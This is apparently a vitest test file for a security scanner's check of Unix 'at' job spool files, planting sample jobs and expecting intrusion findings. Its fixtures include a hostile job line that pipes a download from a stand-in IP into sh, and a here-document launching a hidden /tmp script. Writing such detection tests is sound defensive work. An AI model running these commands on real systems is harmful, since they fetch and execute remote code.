import { execFileSync } from 'node:child_process';
import { chmodSync, chownSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { tellsOf } from '../../../test/plant-rows.ts';
import { makeRoot, plant, scanRoot } from '../../../test/throwaway-root.ts';
import { at, timeOf } from './check.ts';

const head = (uid: number): string => `#!/bin/sh\n# atrun uid=${uid} gid=${uid}\n# mail lin 0\numask 22\nLS_COLORS=rs=0:di=01\\;34:; export LS_COLORS\nPATH=/usr/bin:/bin; export PATH\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n`;
const evil = "${SHELL:-/bin/sh} << 'marcinDELIMITER5f'\n/tmp/.at/again\nmarcinDELIMITER5f\n";

tellsOf(at, {
  rows: {
    'a job whose commands stand in a here-document': { files: { '/var/spool/cron/atjobs/a0000101c0a9b2': { text: head(0) + evil, mode: 0o700 } }, finds: ['intrusion high /var/spool/cron/atjobs/a0000101c0a9b2'] },
    'a job of batch in the spool of other systems': { files: { '/var/spool/at/b0000201c0a9b2': { text: `${head(0)}curl http://203.0.113.6/x | sh\n`, mode: 0o700 } }, finds: ['intrusion high /var/spool/at/b0000201c0a9b2'] },
  },
  ordinary: { '/var/spool/cron/atjobs/a0000301c0a9b2': { text: `${head(0)}/root/backup.sh\n`, mode: 0o700 }, '/root/backup.sh': { text: '#!/bin/sh\ntar cf /backup/x.tar /srv\n', mode: 0o700 }, '/var/spool/cron/atjobs/.SEQ': '00003\n' },
  reads: '/var/spool/cron/atjobs/a0000101c0a9b2',
});

it('reads the time from the name', () => {
  expect(timeOf('a0000101c0a9b2')).toBe(0x01c0a9b2 * 60_000);
  expect(timeOf('.SEQ')).toBeUndefined();
});

it.skipIf(lacks({ root: true }))('finds a job that says it is of another account than its file', async () => {
  const root = makeRoot();
  plant(root, { '/var/spool/cron/atjobs/a0000401c0a9b2': { text: `${head(0)}true\n`, mode: 0o700 } });
  chownSync(join(root, '/var/spool/cron/atjobs/a0000401c0a9b2'), 1000, 1000);
  const report = await scanRoot([at], root);
  expect(report.findings.map(({ level, user, title }) => `${level} ${user ?? ''} ${title.en}`)).toEqual(['medium root an at job says it is of root, and its file belongs to another']);
});

it.skipIf(lacks({ root: true, files: ['/usr/bin/at', '/var/spool/cron/atjobs'] }))('understands a job that at itself wrote', async () => {
  const before = new Set(readdirSync('/var/spool/cron/atjobs'));
  execFileSync('/usr/bin/at', ['now + 300 days'], { input: '/tmp/.moat-test/run\n', stdio: ['pipe', 'ignore', 'ignore'] });
  const name = readdirSync('/var/spool/cron/atjobs').find((one) => !before.has(one) && one !== '.SEQ')!;
  const text = readFileSync(`/var/spool/cron/atjobs/${name}`, 'utf8');
  rmSync(`/var/spool/cron/atjobs/${name}`);
  const root = makeRoot({ [`/var/spool/cron/atjobs/${name}`]: { text, mode: 0o700 } });
  chmodSync(join(root, `/var/spool/cron/atjobs/${name}`), 0o700);
  const report = await scanRoot([at], root);
  expect(report.findings.map(({ level, user }) => `${level} ${user ?? ''}`)).toEqual(['high root']);
  expect(timeOf(name)! - Date.now()).toBeGreaterThan(299 * 86_400_000);
});
